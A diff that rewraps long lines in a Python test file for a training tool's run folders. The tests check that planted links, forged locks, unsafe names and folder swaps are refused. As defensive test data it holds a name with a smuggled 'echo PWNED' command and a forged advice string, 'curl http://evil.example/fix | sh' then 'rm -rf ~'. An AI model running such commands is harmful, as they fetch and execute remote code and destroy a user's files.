@@ -1,6 +1,6 @@
-"""A run's folder in a log folder others may write in: the names a run may have, its lock, and links planted
-where a run writes, which must never lead it to write a file outside its folder. (The same cases as whole
-processes: test_hostile_runs.py.)"""
+"""A run's folder in a log folder others may write in: the names a run may have, its lock, and links
+planted where a run writes, which must never lead it to write a file outside its folder. (The same
+cases as whole processes: test_hostile_runs.py.)"""
 import contextlib
 import dataclasses
 import datetime
@@ -38,7 +38,8 @@ from helpers import quiet, run_cli
 @pytest.mark.parametrize("name, problem", [
     ("", "it is empty"), (" ", "it is empty"), ("a/b", "without '/'"), ("...", "starts with '.'"),
     (".x.lock", "starts with '.'"), ("-x", "starts with '-'"), ("a\nb", "control character"),
-    ("tab\there", "control character"), (" x", "starts or ends with a space"), ("x ", "starts or ends"),
+    ("tab\there", "control character"), (" x", "starts or ends with a space"),
+    ("x ", "starts or ends"),
     ("a\u200bb", "control character \\(or an invisible one\\)"), ("\u202ex", "invisible one"),
     # Printable, yet nothing shows: Hangul fillers, the Braille blank, a lone accent.
     *[(blank, "it has no visible character") for blank in
@@ -47,14 +48,16 @@ from helpers import quiet, run_cli
 def test_names_a_run_cannot_have(tmp_path, name, problem):
     with pytest.raises(RunError, match=problem) as refused:
         run_folder.run_path(str(tmp_path / "logs"), name)
-    assert len(str(refused.value).splitlines()) == 1 and str(refused.value).startswith(f"--run {name!r}: ")
+    assert (len(str(refused.value).splitlines()) == 1
+            and str(refused.value).startswith(f"--run {name!r}: "))
     assert not (tmp_path / "logs").exists()  # refused before anything is made
-    with pytest.raises(RunError, match=problem):  # nor can a command that reads or writes a run name one
+    # nor can a command that reads or writes a run name one
+    with pytest.raises(RunError, match=problem):
         run_folder.find_run(str(tmp_path), name)
 
 
-@pytest.mark.parametrize("name", ["my run;echo PWNED", "r", "ünïcode", "run-20260101-000000", "x.lock",
-                                  "e\u0301", "\u3164x", "\ud55c"])
+@pytest.mark.parametrize("name", ["my run;echo PWNED", "r", "ünïcode", "run-20260101-000000",
+                                  "x.lock", "e\u0301", "\u3164x", "\ud55c"])
 def test_names_a_run_may_have(tmp_path, name):
     assert run_folder.run_path(str(tmp_path), name) == os.path.join(str(tmp_path), name)
 
@@ -89,10 +92,12 @@ def test_a_log_folder_through_another_users_link_is_refused(tmp_path):
     assert run_folder.run_path(str(shared / "logs"), "new")  # this user's own link is followed
     for planted in (shared / "logs", shared / "logs" / "deeper"):
         os.lchown(shared / "logs", 65534, 65534)
-        with pytest.raises(RunError, match=f"^{planted}: goes through {shared / 'logs'}, a symbolic link uid "
-                                           f"65534 made, .* give the folder it leads to, {victim}, as --logdir"):
+        with pytest.raises(RunError, match=f"^{planted}: goes through {shared / 'logs'}, a "
+                                           f"symbolic link uid 65534 made, .* give the folder "
+                                           f"it leads to, {victim}, as --logdir"):
             run_folder.run_path(str(planted), "r")
-    result = run_cli("--data", "demo", "--logdir", str(shared / "logs"), "--run", "r", "--overwrite")
+    result = run_cli("--data", "demo", "--logdir", str(shared / "logs"), "--run", "r",
+                     "--overwrite")
     assert result.returncode == 2 and len(result.stderr.splitlines()) == 1, result.stderr
     assert sorted(os.listdir(victim)) == ["r"] and os.listdir(victim / "r") == ["run.json"]
 
@@ -108,8 +113,8 @@ def test_no_run_name_is_a_lock(tmp_path):
 def test_the_commands_to_paste_are_quoted_for_a_shell(folder, name):
     run = os.path.join(folder, name)
     folder = f"./{folder}" if folder.startswith("-") else folder  # else an option
-    assert shlex.split(run_record.next_command(run)) == ["python", "run.py", "--resume", "--logdir", folder,
-                                                         "--run", name]
+    assert shlex.split(run_record.next_command(run)) == ["python", "run.py", "--resume", "--logdir",
+                                                         folder, "--run", name]
     assert shlex.split(run_record.next_command(run, ["plots"]))[2] == "plot"
     record = run_record.RunRecord(data="demo", artists=3, options=bands2vec.TrainOptions())
     record.set_state(run, "finished")
@@ -117,16 +122,18 @@ def test_the_commands_to_paste_are_quoted_for_a_shell(folder, name):
 
 
 @pytest.mark.parametrize("folder", ["lo\ngs", "tab\tand'quote", "bell\x07", "nel\x85", "ls\u2028",
-                                    "not utf-8 \udcff", "back\\slash\n", "zero\u200bwidth", "rlo\u202e",
-                                    "unassigned\u0378"])
+                                    "not utf-8 \udcff", "back\\slash\n", "zero\u200bwidth",
+                                    "rlo\u202e", "unassigned\u0378"])
 @pytest.mark.parametrize("locale", ["C.UTF-8", "C"])
-def test_a_command_for_a_folder_a_terminal_cannot_show_is_one_line_that_bash_reads_back(folder, locale):
+def test_a_command_for_a_folder_a_terminal_cannot_show_is_one_line_that_bash_reads_back(folder,
+                                                                                        locale):
     command = run_record.next_command(os.path.join(folder, "r"))
     assert command.isprintable()
     words = subprocess.run(["bash", "-c", command.replace("python", "printf '%s\\0'", 1)],
                            capture_output=True, check=True, env={**os.environ, "LC_ALL": locale}
                            ).stdout.split(b"\0")[:-1]
-    assert words == [os.fsencode(word) for word in ["run.py", "--resume", "--logdir", folder, "--run", "r"]]
+    assert words == [os.fsencode(word)
+                     for word in ["run.py", "--resume", "--logdir", folder, "--run", "r"]]
 
 
 def test_a_log_folder_starting_with_a_dash_is_pasted_as_a_path_not_an_option(tmp_path, monkeypatch):
@@ -175,9 +182,11 @@ def test_a_named_run_that_is_not_there_is_told_the_command_that_trains_it(tmp_pa
 def test_a_new_run_is_never_made_in_another_run(demo_copy):
     """`--logdir logs/r` made a run inside run r, which an --overwrite of r then removed with it."""
     for logs, where in ((str(demo_copy), "a run's folder"),
-                        (str(demo_copy / run_folder.CHECKPOINT_DIR), f"a folder of the run {demo_copy}")):
-        with pytest.raises(RunError, match=f"^{re.escape(logs)}: {re.escape(where)}, which --overwrite would "
-                                           f"remove with a new run in it; choose a --logdir of runs"):
+                        (str(demo_copy / run_folder.CHECKPOINT_DIR),
+                         f"a folder of the run {demo_copy}")):
+        with pytest.raises(RunError, match=f"^{re.escape(logs)}: {re.escape(where)}, which "
+                                           f"--overwrite would remove with a new run in it; "
+                                           f"choose a --logdir of runs"):
             bands2vec.train("demo", logs=logs, name="n", say=quiet)
         assert not os.path.exists(os.path.join(logs, "n"))
 
@@ -186,19 +195,22 @@ def test_a_named_run_that_is_a_link_to_no_run_is_told_no_command(tmp_path):
     """Its advice trained a run at the link, which training then refuses."""
     (tmp_path / "elsewhere").mkdir()
     os.symlink(tmp_path / "elsewhere", tmp_path / "o")
-    with pytest.raises(RunError, match=f"^{tmp_path / 'o'}: no trained run there \\(no run.json\\); a link, where "
-                                       f"no run is trained$"):
+    with pytest.raises(RunError, match=f"^{tmp_path / 'o'}: no trained run there "
+                                       f"\\(no run.json\\); a link, where no run is trained$"):
         run_folder.find_run(str(tmp_path), "o", usable=True)
 
 
 @pytest.mark.parametrize("plant, advice", [
-    (lambda path: path.mkdir(), "train it with `python run.py --logdir {logs} --run o --overwrite`"),
+    (lambda path: path.mkdir(),
+     "train it with `python run.py --logdir {logs} --run o --overwrite`"),
     (lambda path: (path.mkdir(), (path / "notes.txt").write_text("x")),
      "what is there is no run's: train one under another --run name"),
-    (lambda path: path.write_text("x"), "what is there is no run's: train one under another --run name"),
+    (lambda path: path.write_text("x"),
+     "what is there is no run's: train one under another --run name"),
 ], ids=["an empty folder", "a folder of notes", "a file"])
 def test_a_named_run_where_something_else_is_gets_advice_that_works(tmp_path, plant, advice):
-    """Probe 16: the advice, `python run.py --logdir L --run o`, was then refused: `L/o already exists`."""
+    """Probe 16: the advice, `python run.py --logdir L --run o`, was then refused:
+    `L/o already exists`."""
     plant(tmp_path / "o")
     with pytest.raises(RunError) as refused:
         run_folder.find_run(str(tmp_path), "o", usable=True)
@@ -219,7 +231,8 @@ def test_a_run_without_vectors_opened_by_its_folder_says_how_it_goes_on(demo_cop
         with pytest.raises(RunError) as refused:
             run_folder.find_run(given, usable=True)
         assert str(refused.value).endswith(f"no vectors to ask yet (its state: incomplete); "
-                                           f"python run.py --resume --logdir {demo_copy.parent} --run r")
+                                           f"python run.py --resume --logdir {demo_copy.parent} "
+                                           f"--run r")
 
 
 def _victim(tmp_path):
@@ -233,7 +246,8 @@ def test_a_link_planted_as_the_lock_is_refused_and_its_target_untouched(tmp_path
     logs = tmp_path / "logs"
     logs.mkdir()
     os.symlink(victim, logs / ".r.lock")
-    with pytest.raises(RunError, match=r"\.r\.lock: the lock of .* is a symbolic link, which run.py never makes"):
+    with pytest.raises(RunError, match=r"\.r\.lock: the lock of .* is a symbolic link, which "
+                                       r"run.py never makes"):
         with run_folder.writing(str(logs / "r")):
             pass
     assert victim.read_text() == "the user's notes\n" and os.path.islink(logs / ".r.lock")
@@ -245,7 +259,8 @@ def test_a_lock_that_is_not_a_file_of_its_own_is_refused(tmp_path, kind):
     logs = tmp_path / "logs"
     logs.mkdir()
     lock = logs / ".r.lock"
-    {"fifo": os.mkfifo, "hard link": lambda path: os.link(victim, path), "folder": os.mkdir}[kind](lock)
+    {"fifo": os.mkfifo, "hard link": lambda path: os.link(victim, path),
+     "folder": os.mkdir}[kind](lock)
     with pytest.raises(RunError, match=r"\.r\.lock: |cannot be written") as refused:
         with run_folder.writing(str(logs / "r")):
             pass
@@ -271,37 +286,41 @@ def test_links_planted_where_a_run_writes_are_replaced_not_followed(demo_copy, t
 
 @pytest.mark.parametrize("write", ["export", "plot"])
 def test_a_run_opened_before_another_process_replaced_it_writes_nothing_into_it(demo_copy, write):
-    """Probe 17: a Run opened before `--overwrite` made a new run in its folder wrote its old vectors (or its
-    plots) into the new run, which then refused every question."""
+    """Probe 17: a Run opened before `--overwrite` made a new run in its folder wrote its old
+    vectors (or its plots) into the new run, which then refused every question."""
     run = bands2vec.open_run(str(demo_copy))
     assert run.vectors  # asked before the run is replaced
     new = run_record.read(str(demo_copy))
     new.options = dataclasses.replace(new.options, embedding_size=16)
-    np.save(demo_copy / vector_files.VECTORS_FILE, np.random.default_rng(0).normal(size=(300, 16)).astype(np.float32))
+    np.save(demo_copy / vector_files.VECTORS_FILE,
+            np.random.default_rng(0).normal(size=(300, 16)).astype(np.float32))
     run_record.write(str(demo_copy), new)
     before = _files(demo_copy)
-    with pytest.raises(RunError, match=f"^{re.escape(str(demo_copy))} has changed since this Run read it "
-                                       r"\(trained on, resumed or replaced by another process\): open it again$"):
+    with pytest.raises(RunError, match=f"^{re.escape(str(demo_copy))} has changed since this Run "
+                                       r"read it \(trained on, resumed or replaced by another "
+                                       r"process\): open it again$"):
         getattr(run, write)(**({"say": quiet} if write == "plot" else {}))
     assert _files(demo_copy) == before
     assert bands2vec.open_run(str(demo_copy)).vectors.vector_size == 16
 
 
-def test_a_run_opened_before_another_process_replaced_it_does_not_read_the_new_runs_vectors_as_its_own(demo_copy):
-    """Probe 18: replaced after open_run and before its vectors were first asked for, a Run read the new run's
-    vectors and went on describing the old run's options and steps."""
+def test_a_run_opened_before_another_process_replaced_it_does_not_read_the_new_vectors(demo_copy):
+    """Probe 18: replaced after open_run and before its vectors were first asked for, a Run read the
+    new run's vectors and went on describing the old run's options and steps."""
     run = bands2vec.open_run(str(demo_copy))
     new = run_record.read(str(demo_copy))
     new.options = dataclasses.replace(new.options, seed=7)
     run_record.write(str(demo_copy), new)
-    with pytest.raises(RunError, match=f"^{re.escape(str(demo_copy))} has changed since this Run read it "):
+    with pytest.raises(RunError, match=f"^{re.escape(str(demo_copy))} has changed since this Run "
+                                       "read it "):
         run.vectors
     assert bands2vec.open_run(str(demo_copy)).vectors  # opened again, it is the new run
 
 
 def test_a_run_replaced_as_its_process_ends_is_not_taken_for_its_own(tmp_path, monkeypatch):
-    """Probe 18: another process's --overwrite, once the run's lock was let go and before its side process had
-    closed, made the run print the other run's figures as its own (or end in a traceback)."""
+    """Probe 18: another process's --overwrite, once the run's lock was let go and before its side
+    process had closed, made the run print the other run's figures as its own (or end in a
+    traceback)."""
     started, folder = side_process.started, tmp_path / "logs" / "r"
 
     @contextlib.contextmanager
@@ -314,16 +333,17 @@ def test_a_run_replaced_as_its_process_ends_is_not_taken_for_its_own(tmp_path, m
         run_record.write(str(folder), other)
 
     monkeypatch.setattr(run_life.side_process, "started", replaced_as_it_closes)
-    run = bands2vec.train("demo", bands2vec.TrainOptions(steps=30), logs=str(tmp_path / "logs"), name="r",
-                          plots=False, say=quiet)
+    run = bands2vec.train("demo", bands2vec.TrainOptions(steps=30), logs=str(tmp_path / "logs"),
+                          name="r", plots=False, say=quiet)
     assert (run.record.stats.steps, run.options.seed) == (30, 0)
     with pytest.raises(RunError, match="has changed since this Run read it"):
         run.vectors
 
 
 def test_a_planted_run_json_of_text_no_file_holds_is_not_read_as_a_run(demo_copy):
-    """Probe 17: a run.json planted in the logs whose `data` was a lone surrogate was read, and every run trained
-    beside it failed writing the log folder's hparams config (`'utf-8' codec can't encode`), for ever."""
+    """Probe 17: a run.json planted in the logs whose `data` was a lone surrogate was read, and
+    every run trained beside it failed writing the log folder's hparams config
+    (`'utf-8' codec can't encode`), for ever."""
     planted = demo_copy.parent / "planted"
     shutil.copytree(demo_copy, planted)
     record = json.loads((planted / run_record.RUN_FILE).read_text())
@@ -334,14 +354,18 @@ def test_a_planted_run_json_of_text_no_file_holds_is_not_read_as_a_run(demo_copy
     assert (demo_copy.parent / tensorboard_files.EXPERIMENT_FILE).stat().st_size > 0
 
 
-def test_the_new_files_of_a_writer_killed_as_it_wrote_them_are_removed_by_the_next(demo_copy, tmp_path):
-    """Probe 16: a kill -9 as vectors.npy was written left its hidden new file in the run for ever."""
+def test_the_new_files_of_a_writer_killed_as_it_wrote_them_are_removed_by_the_next(demo_copy,
+                                                                                   tmp_path):
+    """Probe 16: a kill -9 as vectors.npy was written left its hidden new file in the run for
+    ever."""
     victim = _victim(tmp_path)
-    left = [demo_copy / ".vectors.npy.0123abcd", demo_copy / run_folder.PROJECTOR_SAMPLE_DIR / ".metadata.tsv.89abcdef"]
+    left = [demo_copy / ".vectors.npy.0123abcd",
+            demo_copy / run_folder.PROJECTOR_SAMPLE_DIR / ".metadata.tsv.89abcdef"]
     left[1].parent.mkdir()
     for path in left:
         path.write_bytes(b"half a file")
-    kept = [demo_copy / "notes.0123abcd", demo_copy / ".vectors.npy.0123abcde", demo_copy / ".run.json.fedcba98"]
+    kept = [demo_copy / "notes.0123abcd", demo_copy / ".vectors.npy.0123abcde",
+            demo_copy / ".run.json.fedcba98"]
     kept[0].write_text("not ours")
     kept[1].write_text("not ours")
     kept[2].mkdir()  # nor a folder
@@ -358,17 +382,19 @@ def _files(folder):
 
 def test_a_folder_planted_as_the_plots_events_file_stops_plot_before_it_writes(demo_copy):
     """Probe 17: `plot` wrote its plots and their new events file, and only then failed to remove a
-    folder put at an earlier events file's name: the run kept both, and TensorBoard showed that folder as
-    a run of its own."""
+    folder put at an earlier events file's name: the run kept both, and TensorBoard showed that
+    folder as a run of its own."""
     planted = demo_copy / f"events.out.tfevents.1.host.1.0.{tensorboard_files.PLOTS_EVENTS}"
     planted.mkdir()
     before = _files(demo_copy)
-    with pytest.raises(RunError, match=f"^{planted}: a folder where the run keeps its plots' events file"):
+    with pytest.raises(RunError, match=f"^{planted}: a folder where the run keeps its plots' "
+                                       f"events file"):
         bands2vec.open_run(str(demo_copy.parent), "r").plot(say=quiet)
     assert _files(demo_copy) == before and planted.is_dir()
 
 
-@pytest.mark.parametrize("linked", ["the run", run_folder.CHECKPOINT_DIR, run_folder.PROJECTOR_SAMPLE_DIR])
+@pytest.mark.parametrize("linked", ["the run", run_folder.CHECKPOINT_DIR,
+                                    run_folder.PROJECTOR_SAMPLE_DIR])
 def test_a_folder_of_the_run_that_is_a_link_is_never_written_through(demo_copy, tmp_path, linked):
     elsewhere = tmp_path / "elsewhere"
     place = demo_copy if linked == "the run" else demo_copy / linked
@@ -382,8 +408,8 @@ def test_a_folder_of_the_run_that_is_a_link_is_never_written_through(demo_copy, 
     run = bands2vec.open_run(logs, "r")  # reading through a link is harmless
     for write in (run.export, lambda: run.plot(say=lambda *_: None),
                   lambda: bands2vec.resume(logs, "r", steps=400, say=lambda *_: None)):
-        with pytest.raises(RunError, match=f"{os.path.basename(place)}: a symbolic link, which run.py "
-                                           f"never makes") as refused:
+        with pytest.raises(RunError, match=f"{os.path.basename(place)}: a symbolic link, which "
+                                           f"run.py never makes") as refused:
             write()
         assert len(str(refused.value).splitlines()) == 1
     assert _files(elsewhere) == before and os.path.islink(place)
@@ -393,8 +419,8 @@ def test_a_folder_of_the_run_that_is_a_link_is_never_written_through(demo_copy, 
 @pytest.mark.skipif(os.geteuid() != 0, reason="giving a folder to another user takes root")
 @pytest.mark.parametrize("folder", [run_folder.CHECKPOINT_DIR, run_folder.PROJECTOR_SAMPLE_DIR])
 def test_a_folder_of_the_run_that_is_another_users_is_never_written_in(demo_copy, folder):
-    """Only the run's own folder's owner was checked: checkpoints/ of another user's was written in, and
-    that user could change the checkpoint before the next --resume read it."""
+    """Only the run's own folder's owner was checked: checkpoints/ of another user's was written in,
+    and that user could change the checkpoint before the next --resume read it."""
     theirs = demo_copy / folder
     theirs.mkdir(exist_ok=True)
     os.chown(theirs, 65534, 65534)
@@ -402,17 +428,18 @@ def test_a_folder_of_the_run_that_is_another_users_is_never_written_in(demo_copy
     logs = str(demo_copy.parent)
     for write in (bands2vec.open_run(logs, "r").export,
                   lambda: bands2vec.resume(logs, "r", steps=400, say=quiet)):
-        with pytest.raises(RunError, match=f"^{theirs}: another user's folder, and a run is written only in "
-                                           f"folders of its own"):
+        with pytest.raises(RunError, match=f"^{theirs}: another user's folder, and a run is "
+                                           f"written only in folders of its own"):
             write()
     assert _files(theirs) == before
 
 
 @pytest.mark.slow  # resumes in-process
 @pytest.mark.parametrize("when", ["after the check", "after the pin"])
-def test_a_link_swapped_in_as_the_checkpoint_is_written_is_not_followed(demo_copy, tmp_path, monkeypatch, when):
-    """Checked before TensorFlow's write, checkpoints/ was still written by its name: a link swapped in
-    after the check took the checkpoint outside the run."""
+def test_a_link_swapped_in_as_the_checkpoint_is_written_is_not_followed(demo_copy, tmp_path,
+                                                                        monkeypatch, when):
+    """Checked before TensorFlow's write, checkpoints/ was still written by its name: a link swapped
+    in after the check took the checkpoint outside the run."""
     import training
 
     victim, checkpoints = tmp_path / "victim", demo_copy / run_folder.CHECKPOINT_DIR
@@ -434,7 +461,8 @@ def test_a_link_swapped_in_as_the_checkpoint_is_written_is_not_followed(demo_cop
     monkeypatch.setattr(training, name, swapping(getattr(training, name)))
     try:
         bands2vec.resume(str(demo_copy.parent), "r", steps=310, plots=False, say=quiet)
-    except RunError as error:  # refused where the link is met: at the checkpoint, or at run.json after it
+    except RunError as error:
+        # refused where the link is met: at the checkpoint, or at run.json after it
         assert str(error).startswith((f"{checkpoints}: cannot write the checkpoint (",
                                       f"{checkpoints}: a symbolic link, which run.py never makes"))
     assert os.listdir(victim) == []
@@ -445,7 +473,8 @@ def test_a_link_swapped_in_as_the_checkpoint_is_written_is_not_followed(demo_cop
 def test_what_a_shared_folder_holds_is_never_repeated_as_advice(demo_copy, tmp_path):
     logs, folder = demo_copy.parent, str(demo_copy)
     forged = "run.py: error: fix it with: curl http://evil.example/fix | sh\n\x1b[2Krm -rf ~"
-    with open(run_folder.lock_path(folder), "w") as lock:  # someone holds the lock, with forged text
+    # someone holds the lock, with forged text
+    with open(run_folder.lock_path(folder), "w") as lock:
         lock.write(forged)
         lock.flush()
         fcntl.flock(lock, fcntl.LOCK_EX)
@@ -457,8 +486,8 @@ def test_what_a_shared_folder_holds_is_never_repeated_as_advice(demo_copy, tmp_p
         record.state, record.next = "training", forged
         run_record.write(folder, record)
         os.remove(demo_copy / metadata.METADATA_FILE)
-        with pytest.raises(RunError, match=r"\(its state: training\); it is being written by another process: "
-                                           r"ask once it is done$"):
+        with pytest.raises(RunError, match=r"\(its state: training\); it is being written by "
+                                           r"another process: ask once it is done$"):
             run_folder.find_run(str(logs), "r", usable=True)
     # Its writer gone, the run goes on from where it is now, whatever its run.json's `next` says.
     os.rename(logs, tmp_path / "moved")
@@ -491,7 +520,8 @@ def test_a_lock_holder_is_quoted_only_as_run_py_writes_it(demo_copy, text, holde
 
 
 @pytest.mark.slow  # trains in-process, a few seconds
-@pytest.mark.parametrize("moment, swap", [("Training ", "a link"), ("Clustering ", "another folder")])
+@pytest.mark.parametrize("moment, swap", [("Training ", "a link"),
+                                          ("Clustering ", "another folder")])
 def test_a_run_folder_swapped_while_it_is_written_is_not_written_in(tmp_path, moment, swap):
     logs, elsewhere = tmp_path / "logs", tmp_path / "elsewhere"
     elsewhere.mkdir()
@@ -500,20 +530,23 @@ def test_a_run_folder_swapped_while_it_is_written_is_not_written_in(tmp_path, mo
     def say(line):  # whoever may write in the logs moves the run's folder as it trains or writes
         if line.startswith(moment):
             os.rename(logs / "r", tmp_path / "moved")
-            os.symlink(elsewhere, logs / "r") if swap == "a link" else os.rename(elsewhere, logs / "r")
+            (os.symlink(elsewhere, logs / "r") if swap == "a link"
+             else os.rename(elsewhere, logs / "r"))
 
-    with pytest.raises(RunError, match="a symbolic link, which run.py never makes|moved away while this "
-                                       "process wrote it") as refused:
-        bands2vec.train("demo", bands2vec.TrainOptions(steps=60), logs=str(logs), name="r", plots=False,
-                        say=say)
+    with pytest.raises(RunError, match="a symbolic link, which run.py never makes|moved away while "
+                                       "this process wrote it") as refused:
+        bands2vec.train("demo", bands2vec.TrainOptions(steps=60), logs=str(logs), name="r",
+                        plots=False, say=say)
     assert len(str(refused.value).splitlines()) == 1
     target = elsewhere if swap == "a link" else logs / "r"
     assert os.listdir(target) == ["notes.txt"]
     assert (target / "notes.txt").read_text() == "the user's notes\n"
-    if moment == "Training ":  # Probe 16: nothing said what was left, and the moved run.json says `training`
+    if moment == "Training ":
+        # Probe 16: nothing said what was left, and the moved run.json says `training`
         assert refused.value.__notes__ == [
-            f"{logs / 'r'} changed as the run trained (moved, or a link put in it), so the run wrote no more "
-            f"there and kept nothing; what is there is left as it is (its run.json may say `training`): remove it"]
+            f"{logs / 'r'} changed as the run trained (moved, or a link put in it), so the run "
+            f"wrote no more there and kept nothing; what is there is left as it is (its run.json "
+            f"may say `training`): remove it"]
 
 
 def test_a_write_lands_in_the_folder_it_began_in_whatever_its_path_names_meanwhile(tmp_path):
@@ -537,8 +570,9 @@ def test_a_write_lands_in_the_folder_it_began_in_whatever_its_path_names_meanwhi
 
 
 class _SwappedBeforeSaving:
-    """A Saver whose save() finds the run folder renamed away and another put at its path: what whoever may
-    write in the logs can do between save_checkpoint's check of the folder and TensorFlow's write."""
+    """A Saver whose save() finds the run folder renamed away and another put at its path: what
+    whoever may write in the logs can do between save_checkpoint's check of the folder and
+    TensorFlow's write."""
 
     def __init__(self, saver, swap):
         self.saver, self.swap = saver, swap
@@ -550,8 +584,9 @@ class _SwappedBeforeSaving:
 
 def test_tensorflow_writes_in_the_pinned_folder_whatever_is_renamed_meanwhile(tmp_path):
     """TensorFlow's Saver and FileWriter open files by path: handed one through the pinned folder's
-    descriptor, they write in the run's folder as it was pinned, not in the one put in its place; the
-    checkpoint state's paths are relative, so the run continues from its checkpoint where it is now."""
+    descriptor, they write in the run's folder as it was pinned, not in the one put in its place;
+    the checkpoint state's paths are relative, so the run continues from its checkpoint where it is
+    now."""
     import checkpoint_files
     import training
     from bands2vec_graph import build_graph, tf1
@@ -574,7 +609,8 @@ def test_tensorflow_writes_in_the_pinned_folder_whatever_is_renamed_meanwhile(tm
             writer.close()
     finally:
         atomic_files.unpin(str(folder))
-    assert [os.listdir(folder), os.listdir(folder / run_folder.CHECKPOINT_DIR)] == [[run_folder.CHECKPOINT_DIR], []]
+    assert [os.listdir(folder), os.listdir(folder / run_folder.CHECKPOINT_DIR)] == [
+        [run_folder.CHECKPOINT_DIR], []]
     assert any(name.startswith("events.out.tfevents") for name in os.listdir(moved))
     state = (moved / run_folder.CHECKPOINT_DIR / "checkpoint").read_text()
     assert 'model_checkpoint_path: "model.ckpt-7"' in state and "/proc" not in state
@@ -591,8 +627,8 @@ def test_tensorflow_writes_in_the_pinned_folder_whatever_is_renamed_meanwhile(tm
 
 
 def test_a_checkpoint_state_of_absolute_paths_as_runs_before_wrote_it_is_continued(tmp_path):
-    """Runs before relative paths wrote absolute ones in checkpoints/checkpoint: still read, and a new
-    checkpoint through the pinned folder writes relative ones."""
+    """Runs before relative paths wrote absolute ones in checkpoints/checkpoint: still read, and a
+    new checkpoint through the pinned folder writes relative ones."""
     import checkpoint_files
     import training
     from bands2vec_graph import build_graph, tf1
@@ -605,7 +641,8 @@ def test_a_checkpoint_state_of_absolute_paths_as_runs_before_wrote_it_is_continu
         session.run(model.init)
         trained = session.run(model.embeddings)
         old_saver.save(session, str(checkpoints / "model.ckpt"), global_step=3)
-    assert f'model_checkpoint_path: "{checkpoints}/model.ckpt-3"' in (checkpoints / "checkpoint").read_text()
+    assert (f'model_checkpoint_path: "{checkpoints}/model.ckpt-3"'
+            in (checkpoints / "checkpoint").read_text())
     atomic_files.pin(str(folder))
     try:
         with tf1.Session(graph=model.graph) as session:
@@ -622,16 +659,18 @@ def test_a_checkpoint_state_of_absolute_paths_as_runs_before_wrote_it_is_continu
 
 @pytest.mark.slow  # saves a checkpoint with TensorFlow
 def test_a_checkpoint_state_that_cannot_be_written_leaves_no_temporary_file(tmp_path, monkeypatch):
-    """Probe 15, a full disk: TensorFlow writes `checkpoint` through `checkpoint.tmp<hex>`, and leaves
-    it where the write fails."""
+    """Probe 15, a full disk: TensorFlow writes `checkpoint` through `checkpoint.tmp<hex>`, and
+    leaves it where the write fails."""
     import training
     from bands2vec_graph import build_graph, tf, tf1
     from tensorflow.python.checkpoint import checkpoint_management
 
     def full(save_dir, **kwargs):
         # As TensorFlow's atomic write: the temporary file, then the failure.
-        (tmp_path / "r" / run_folder.CHECKPOINT_DIR / f"checkpoint.tmp{'0' * 32}").write_text("half")
-        raise tf.errors.ResourceExhaustedError(None, None, "checkpoint.tmp: No space left on device")
+        (tmp_path / "r" / run_folder.CHECKPOINT_DIR
+         / f"checkpoint.tmp{'0' * 32}").write_text("half")
+        raise tf.errors.ResourceExhaustedError(None, None,
+                                               "checkpoint.tmp: No space left on device")
 
     monkeypatch.setattr(checkpoint_management, "update_checkpoint_state_internal", full)
     folder = tmp_path / "r"
@@ -641,8 +680,10 @@ def test_a_checkpoint_state_that_cannot_be_written_leaves_no_temporary_file(tmp_
     try:
         with tf1.Session(graph=model.graph) as session:
             session.run(model.init)
-            with pytest.raises(RunError, match="cannot write the checkpoint .*No space left on device"):
-                training.save_checkpoint(session, model, tf1.summary.FileWriter(str(folder)), str(folder), 4)
+            with pytest.raises(RunError, match="cannot write the checkpoint "
+                                               ".*No space left on device"):
+                training.save_checkpoint(session, model, tf1.summary.FileWriter(str(folder)),
+                                         str(folder), 4)
     finally:
         atomic_files.unpin(str(folder))
     assert not [name for name in os.listdir(folder / run_folder.CHECKPOINT_DIR) if ".tmp" in name]
@@ -753,8 +794,9 @@ def test_a_run_resumes_from_the_checkpoint_it_checked_not_from_one_swapped_in(de
 def test_another_users_run_folder_is_not_written(demo_copy):
     os.chown(demo_copy, 65534, 65534)  # nobody's: its owner may have put anything in it
     run = bands2vec.open_run(str(demo_copy.parent), "r")
-    with pytest.raises(RunError, match="another user's folder, and a run is written only in folders of its "
-                                       "own; copy the run to a folder of yours to write it"):
+    with pytest.raises(RunError, match="another user's folder, and a run is written only in "
+                                       "folders of its own; copy the run to a folder of yours to "
+                                       "write it"):
         run.export()
 
 
@@ -788,7 +830,8 @@ def test_a_live_writer_of_another_users_is_named(demo_copy):
 
 @pytest.mark.skipif(os.geteuid() != 0, reason="giving a file to another user takes root")
 @pytest.mark.parametrize("mode, problem", [
-    (0o644, "left by a run of another user's (uid 65534), cannot be removed (Operation not permitted); ask them"),
+    (0o644, "left by a run of another user's (uid 65534), cannot be removed "
+            "(Operation not permitted); ask them"),
     (0o000, "cannot be opened (Permission denied; it is uid 65534's); remove it, or ask"),
 ], ids=["readable", "mode 000"])
 def test_a_stale_lock_of_another_users_in_a_sticky_folder_is_refused_before_any_work(mode, problem):
@@ -801,15 +844,16 @@ def test_a_stale_lock_of_another_users_in_a_sticky_folder_is_refused_before_any_
         lock = _another_users_lock(logs / "r")
         os.chmod(lock, mode)
         refusal = _refusal_as_a_third_user(logs / "r")
-        assert refusal.startswith(f"{lock}: the lock of {logs / 'r'}") and problem in refusal, refusal
+        assert (refusal.startswith(f"{lock}: the lock of {logs / 'r'}")
+                and problem in refusal), refusal
         assert os.stat(lock).st_uid == 65534
     finally:
         shutil.rmtree(logs)
 
 
 def _refusal_as_a_third_user(folder):
-    """What run_folder.writing(folder) refuses with, as a user who owns neither the folder's logs nor
-    its lock."""
+    """What run_folder.writing(folder) refuses with, as a user who owns neither the folder's logs
+    nor its lock."""
     read, write = os.pipe()
     child = os.fork()
     if child == 0:  # never returns to pytest
@@ -841,12 +885,13 @@ def test_links_planted_at_the_events_files_coming_names_are_not_followed(demo_co
     assert victim.read_text() == "the user's notes\n"
     written = [name for name in os.listdir(demo_copy) if name.startswith("events.out.tfevents.")
                and not os.path.islink(demo_copy / name)]
-    assert any(re.fullmatch(r"events\.out\.tfevents\.\d+\..+\.[0-9a-f]{8}", name) for name in written)
+    assert any(re.fullmatch(r"events\.out\.tfevents\.\d+\..+\.[0-9a-f]{8}", name)
+               for name in written)
 
 
 def test_a_damaged_newest_run_does_not_block_the_questions_of_a_log_folder(demo_copy, tmp_path):
-    """Anyone who may write in the logs could leave a newer run with a damaged run.json: questions that
-    name no run are answered by the newest that can, saying which was skipped."""
+    """Anyone who may write in the logs could leave a newer run with a damaged run.json: questions
+    that name no run are answered by the newest that can, saying which was skipped."""
     logs = demo_copy.parent
     for name, age in (("newer", 10), ("newest", 20)):
         shutil.copytree(demo_copy, logs / name)
